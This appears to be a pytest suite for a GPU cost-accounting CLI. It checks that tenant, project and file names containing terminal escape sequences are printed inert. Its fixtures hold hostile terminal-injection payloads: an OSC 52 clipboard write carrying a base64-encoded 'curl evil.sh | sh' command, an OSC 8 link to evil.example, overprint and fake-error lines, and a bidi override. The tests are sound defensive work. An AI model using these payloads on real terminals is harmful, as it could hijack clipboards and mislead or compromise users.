"""Names from the data cannot drive the reader's terminal: every CLI text output (report,
explain, budgets, alerts, diff, import, scenario) shows a control character in a name as a
visible escape, and JSON output (escaped by JSON itself) reads back to the exact name."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from cost_engine import terminal
from cost_engine.cli import main

# An OSC 52 clipboard write, an OSC 8 link, a colour, a carriage return that overprints, an
# 8-bit CSI, a line separator and a bidi override: what a hostile owner key can carry.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
TENANT = f"acme{OSC52}"
PROJECT = f"web{OSC8}\r\x1b[31mTOTAL 0.00\x9b2J\nerror: fake\u2028\u202e"
RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\r", "\u2028", "\u202e")


def _clean(text: str) -> None:
    """No raw control character of a name reached the output; its escapes did."""
    for ch in RAW:
        assert ch not in text, repr(ch)
    assert "\nerror: fake" not in text  # a name's line feed never starts a line of its own


def _bundle(folder: Path) -> Path:
    """One card, one day, $24 depreciation ($1 per card-hour); the hostile project holds g0
    for 6 h: $6.00 attributed to it (and its tenant), $18.00 idle."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = {
        "inventory": [{"gpu_id": "g0", "pool": "p"}],
        "allocations": [{"allocation_id": f"a{OSC8}", "gpu_id": "g0", "start": "2026-10-01T00:00:00Z",
                         "end": "2026-10-01T06:00:00Z", "owner": PROJECT, "model": f"m{OSC52}"}],
        "owners": [{"tenant": TENANT, "project": PROJECT}],
        "costs": [{"cost_id": "c1", "category": "depreciation", "amount": 24.0,
                   "start": "2026-10-01T00:00:00Z", "end": "2026-10-02T00:00:00Z"}],
        "budgets": [{"budget_id": f"b{OSC8}", "tenant": TENANT, "period_kind": "custom", "amount": 5.0,
                     "start": "2026-10-01T00:00:00Z", "end": "2026-10-02T00:00:00Z"}],
    }
    for name, table in rows.items():
        (folder / f"{name}.jsonl").write_text("".join(json.dumps(r) + "\n" for r in table))
    (folder / "ailedger.toml").write_text(
        '[period]\nstart = 2026-10-01T00:00:00Z\nend = 2026-10-02T00:00:00Z\n'
        '[alerts]\nbooked_over_budget_pct = 80\n'
    )
    return folder


def _run(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def test_safe_escapes_every_control_character_of_a_name():
    assert terminal.safe(TENANT) == "acme\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
    assert terminal.safe("a\tb\nc\u2029d\u2066") == "a\\x09b\\x0ac\\u2029d\\u2066"
    assert terminal.safe("Café 東京 🚀") == "Café 東京 🚀"  # printable text untouched
    # A whole output keeps the program's own line feeds and tabs.
    assert terminal.printable("a\tb\nc\x1b[2Jd\r") == "a\tb\nc\\x1b[2Jd\\x0d"


def test_report_explain_budgets_alerts_diff_print_names_inert(tmp_path):
    """The budget ($5.00 for the tenant, its booked $6.00 is 120 %) fires the 80 % rule, so
    every text output below prints the hostile names."""
    b = _bundle(tmp_path / "b")
    outputs = {
        "report": _run("report", str(b)),
        "explain": _run("explain", str(b), "--tenant", TENANT),
        "budgets": _run("budgets", str(b), "--as-of", "2026-10-02T00:00:00Z"),
        "alerts": _run("alerts", str(b), "--as-of", "2026-10-02T00:00:00Z"),
        "diff": _run("diff", str(b), "--base", "2026-10-01..2026-10-01", "--period", "2026-10-01..2026-10-01",
                     "--owner", TENANT),
    }
    for what, res in outputs.items():
        _clean(res.output)
    assert "acme\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in outputs["report"].output
    assert "6.00" in outputs["report"].output
    assert "a\\x1b]8;;https://evil.example/" in outputs["explain"].output
    assert "b\\x1b]8;;" in outputs["budgets"].output
    assert outputs["alerts"].exit_code == 1 and "b\\x1b]8;;" in outputs["alerts"].output
    assert "acme\\x1b]52" in outputs["diff"].output


def test_json_outputs_carry_the_exact_names_escaped_by_json(tmp_path):
    b = _bundle(tmp_path / "b")
    rep = _run("report", str(b), "--json").output
    alerts = _run("alerts", str(b), "--as-of", "2026-10-02T00:00:00Z", "--json").output
    for text in (rep, alerts):
        _clean(text)
    assert {r["tenant"] for r in json.loads(rep)["by_tenant"]} == {TENANT}
    assert any(a.get("tenant") == TENANT for a in json.loads(alerts)["alerts"])


def test_import_and_ingest_summaries_print_names_inert(tmp_path):
    """An importer note or an unmapped record naming a hostile file reaches the terminal escaped."""
    bad = tmp_path / f"slurm{OSC52}.txt"
    bad.write_text("JobID|User\nnot a sacct line\n")
    res = CliRunner().invoke(main, ["import", "slurm", str(bad), "--into", str(tmp_path / "out")])
    _clean(res.output)
    assert "slurm\\x1b]52" in res.output


@pytest.mark.parametrize("field", ["scenario", "option"])
def test_scenario_text_report_prints_names_inert(tmp_path, field):
    """The scenario's own name, or an option's (in every table and the break-even lines)."""
    text = (Path(__file__).resolve().parents[1] / "sample_data" / "scenario.toml").read_text()
    hostile = "x\\u001b]52;c;ZXZpbA==\\u0007\\r\\nerror: fake"  # TOML escapes: ESC, BEL, CR, LF
    old = 'name = "support-assistant-70b"' if field == "scenario" else 'name = "rented-h100"'
    new = old.replace('name = "', f'name = "{hostile}')
    f = tmp_path / "s.toml"
    f.write_text(text.replace(old, new, 1))
    args = ["scenario", str(f)]
    if field == "option":
        args += ["--break-even", f"cloud-api,{new.split(chr(34))[1]}".encode().decode("unicode_escape")]
    res = _run(*args)
    assert res.exit_code == 0, res.output
    _clean(res.output)
    assert "x\\x1b]52;c;ZXZpbA==\\x07\\x0d\\x0aerror: fake" in res.output
